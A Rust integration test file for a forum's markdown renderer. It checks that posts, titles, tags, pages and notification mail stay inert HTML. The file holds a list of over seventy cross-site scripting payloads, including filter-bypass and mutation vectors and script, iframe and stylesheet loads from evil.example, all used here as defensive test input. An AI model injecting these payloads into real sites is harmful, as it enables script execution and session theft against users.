//! Hostile input never becomes executable HTML: not in posts, titles, tags, names, pages or mail.

use crate::support::TestApp;
use chorus::content::render;
use serde_json::json;
use std::collections::HashSet;

const ALLOWED_TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "blockquote",
    "ul",
    "ol",
    "li",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "a",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "input",
    "sup",
    "sub",
];

/// Decodes the few entities a serializer emits, so `&#x6a;avascript:` cannot hide a scheme.
fn decode(v: &str) -> String {
    let mut out = String::new();
    let mut rest = v;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        rest = &rest[i..];
        let end = rest.find(';').unwrap_or(0);
        let ent = &rest[1..end.max(1)];
        let ch = match ent {
            "amp" => Some('&'),
            "lt" => Some('<'),
            "gt" => Some('>'),
            "quot" => Some('"'),
            e if e.starts_with("#x") => u32::from_str_radix(&e[2..], 16)
                .ok()
                .and_then(char::from_u32),
            e if e.starts_with('#') => e[1..].parse().ok().and_then(char::from_u32),
            _ => None,
        };
        match (ch, end) {
            (Some(c), e) if e > 0 => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            _ => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Every tag is allowlisted, no attribute runs script or styles, every URL has a safe scheme.
fn assert_inert(html: &str, input: &str) {
    scan_tags(html, input, Some(ALLOWED_TAGS));
}

/// Whole pages: any tag the theme uses, but nothing that runs script besides the theme's file.
fn assert_page_inert(html: &str, what: &str) {
    scan_tags(html, what, None);
}

const NEVER: &[&str] = &[
    "svg", "math", "iframe", "object", "embed", "style", "base", "meta", "link", "frame",
];

fn scan_tags(html: &str, input: &str, allow: Option<&[&str]>) {
    let b = html.as_bytes();
    let mut i = 0;
    while let Some(off) = html[i..].find('<') {
        let start = i + off + 1;
        let end = html[start..]
            .find('>')
            .map(|e| start + e)
            .unwrap_or(html.len());
        let inner = &html[start..end];
        i = end.min(html.len());
        let closing = inner.starts_with('/');
        let inner = inner.trim_start_matches('/');
        let name: String = inner
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect::<String>()
            .to_ascii_lowercase();
        if name.is_empty() {
            if inner.starts_with('!') {
                continue; // <!doctype html>
            }
            panic!("odd markup {inner:?} from {input:?}: {html}");
        }
        match allow {
            Some(allowed) => assert!(
                allowed.contains(&name.as_str()),
                "tag <{name}> from {input:?}: {html}"
            ),
            None => {
                let theme_head = name == "meta"
                    && (inner.contains("charset")
                        || inner.contains("viewport")
                        || inner.starts_with("meta name=\"description\""))
                    || name == "link" && inner.contains("href=\"/static/");
                assert!(
                    theme_head || !NEVER.contains(&name.as_str()),
                    "tag <{name}> in {input}"
                );
                if name == "script" && !closing {
                    assert_eq!(
                        inner, "script src=\"/static/app.js\" defer",
                        "only the theme's script"
                    );
                }
            }
        }
        // Attributes: name="value" pairs as the serializer writes them.
        let mut rest = &inner[name.len()..];
        while let Some(eq) = rest.find("=\"") {
            let attr = rest[..eq]
                .trim()
                .rsplit(' ')
                .next()
                .unwrap_or("")
                .to_ascii_lowercase();
            let after = &rest[eq + 2..];
            let close = after.find('"').unwrap_or(after.len());
            let value = decode(&after[..close]);
            let squashed: String = value
                .chars()
                .filter(|c| !c.is_whitespace() && !c.is_control())
                .collect::<String>()
                .to_ascii_lowercase();
            assert!(
                !attr.starts_with("on"),
                "event handler {attr} from {input:?}: {html}"
            );
            assert!(
                attr != "style" && attr != "srcdoc" && attr != "formaction",
                "{attr} from {input:?}: {html}"
            );
            if attr == "href" || attr == "action" {
                // A scheme is letters, digits, + . - before the first colon; anything else is a path.
                let scheme = squashed
                    .split_once(':')
                    .map(|(s, _)| s)
                    .filter(|s| s.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
                    .filter(|s| {
                        s.chars()
                            .all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c))
                    });
                assert!(
                    matches!(scheme, None | Some("http") | Some("https") | Some("mailto")),
                    "href {value:?} from {input:?}"
                );
            }
            if attr == "src" {
                let theme_file = allow.is_none() && squashed.starts_with("/static/");
                assert!(
                    theme_file
                        || squashed.starts_with("http://")
                        || squashed.starts_with("https://"),
                    "src {value:?} from {input:?}"
                );
            }
            rest = &after[(close + 1).min(after.len())..];
        }
    }
    let _ = b;
}

pub fn hostile_inputs() -> Vec<String> {
    let raw = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<img src=`x`onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "<img src=\"//evil.example/x.png\">",
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](vbscript:alert(1))",
        "[click](data:text/html,<script>alert(1)</script>)",
        "[click]( javascript:alert(1) )",
        "![img](javascript:alert(1))",
        "![img](data:image/png;base64,AAAA)",
        "![img](x \"onerror=alert(1)\")",
        "[a](https://ok.example \"\\\" onmouseover=alert(1) x=\\\"\")",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>*{color:red}</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<a href=\"https://ok.example\" target=\"_blank\" onclick=\"alert(1)\">ok</a>",
        "<img src=x onerror=alert(1)",
        "<<script>alert(1)//<</script>",
        "<a href='javascript:alert(1)'>x",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "```html\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "<table><tr><td onclick=alert(1)>x</td></tr></table>",
        "- [x] <img src=x onerror=alert(1)>",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
        "<a href=\"https://ok.example\">ok</a><a href=\"mailto:fan@example.com\">mail</a>",
        "<<img src=x onerror=alert(1)>>",
        "<img src=\"https://ok.example/a.png\" onload=\"alert(1)\">",
        "<a href=\"\\u006Aavascript:alert(1)\">x</a>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<x onclick=alert(1)>custom</x>",
        "@<img src=x onerror=alert(1)>",
    ];
    raw.iter().map(|s| s.to_string()).collect()
}

#[test]
fn hostile_markdown_renders_to_inert_html() {
    let inputs = hostile_inputs();
    assert!(inputs.len() >= 60, "{} inputs", inputs.len());
    let known: HashSet<String> = HashSet::new();
    for input in &inputs {
        let html = render(input, &known);
        assert_inert(html.as_str(), input);
    }
    // Safe things survive.
    let ok = render(
        "[site](https://example.com) ![pic](https://example.com/a.png) **b** ~~s~~\n\n- [x] done",
        &known,
    );
    let ok = ok.as_str();
    assert!(
        ok.contains("href=\"https://example.com\"") && ok.contains("rel=\"nofollow ugc noopener\""),
        "{ok}"
    );
    assert!(
        ok.contains("<img src=\"https://example.com/a.png\""),
        "{ok}"
    );
    assert!(
        ok.contains("<del>s</del>") && ok.contains("type=\"checkbox\""),
        "{ok}"
    );
}

#[actix_web::test]
async fn hostile_posts_titles_and_tags_stay_inert_in_pages_and_mail() {
    let app = TestApp::new().await;
    app.seed_boards().await;
    let (_, a) = app.member("victim").await;
    let (_, b) = app.member("attacker").await;
    let title = "<img src=x onerror=alert(1)> \"><script>alert(1)</script>";
    let (topic, root) = app.topic(&a, "tips", title, "innocent").await;
    // Tags that carry markup are refused outright.
    let r = app
        .client()
        .with_bearer(&b)
        .post_json("/api/v1/topics", json!({"board": "tips", "kind": "discussion", "title": "t", "body": "b", "tags": ["<svg/onload=alert(1)>"]}))
        .await;
    assert_eq!(r.status, 422);
    for (i, payload) in hostile_inputs().iter().enumerate().step_by(3) {
        let body = format!("{payload}\n\n@victim #{i}");
        app.reply(&b, topic, Some(root), &body).await;
    }
    for page_path in [
        format!("/t/{topic}"),
        "/".to_string(),
        "/b/tips".to_string(),
    ] {
        let page = app.client().with_bearer(&a).get(&page_path).await;
        assert_eq!(page.status, 200);
        let html = page.text();
        assert_eq!(
            html.matches("<script").count(),
            1,
            "{page_path}: only the theme's own script"
        );
        assert!(html.contains("<script src=\"/static/app.js\" defer>"));
        assert_page_inert(&html, &page_path);
        assert!(
            !html.contains("<img src=x"),
            "{page_path}: the title is escaped"
        );
    }
    let t = app.client().get(&format!("/t/{topic}")).await.text();
    assert!(
        t.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "the title shows as text"
    );

    // Mail: the notification about each reply carries the title and the excerpt escaped.
    app.run_jobs().await;
    use chorus::db::schema::mail_outbox;
    use diesel::prelude::*;
    use diesel_async::RunQueryDsl;
    let mails: Vec<(String, String)> = mail_outbox::table
        .filter(mail_outbox::post_id.is_not_null())
        .select((mail_outbox::subject, mail_outbox::body_html))
        .load(&mut app.conn().await)
        .await
        .unwrap();
    assert!(!mails.is_empty());
    for (subject, html) in mails {
        assert!(!subject.contains('\n') && !subject.contains('\r'));
        // Mail layout styles itself inline (mail clients need it); nothing else may.
        let without_layout_styles: String = html.replace(" style=\"", " data-mail-style=\"");
        scan_tags(
            &without_layout_styles,
            "mail",
            Some(&["html", "head", "meta", "body", "p", "a", "hr", "blockquote"]),
        );
    }
}
